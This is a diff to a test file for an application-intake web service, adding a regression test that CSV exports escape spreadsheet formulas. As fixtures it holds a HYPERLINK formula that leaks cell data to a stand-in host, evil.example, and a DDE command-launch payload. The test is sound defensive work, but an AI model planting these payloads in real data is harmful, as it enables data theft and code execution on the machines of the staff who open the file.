@@ -171,3 +171,17 @@ def test_new_benefits_store_their_own_fields_and_proxies_need_theirs(client) -> 
     assert response.status_code == 422 and response.json()["field"] == "proxy_phone"
     wrong_vocabulary = submission(for_self=False, proxy_name="李秀芬", proxy_relation="爸爸", proxy_phone="13900000000")
     assert client.post("/internal/applications", json=wrong_vocabulary, headers=INTERNAL).status_code == 422
+
+
+def test_csv_export_cells_are_never_formulas(client) -> None:
+    """Issue 11 (low): a town typed as =HYPERLINK(…) became a live formula in the staff's spreadsheet."""
+    import csv
+    import io
+
+    attacks = {"town": '=HYPERLINK("http://evil.example/?"&A1,"点这里")', "address": "+1+cmd|' /C calc'!A0"}
+    assert client.post("/internal/applications", json=submission(**attacks), headers=INTERNAL).status_code == 201
+    response = client.get("/api/applications/export.csv", headers=login(client, "staff1"))
+    rows = list(csv.DictReader(io.StringIO(response.text.lstrip("\ufeff"))))
+    cells = [cell for row in rows for cell in row.values() if cell]
+    assert cells and not [cell for cell in cells if cell[0] in "=+-@\t\r"]
+    assert any(cell.startswith("'=HYPERLINK") for cell in cells)
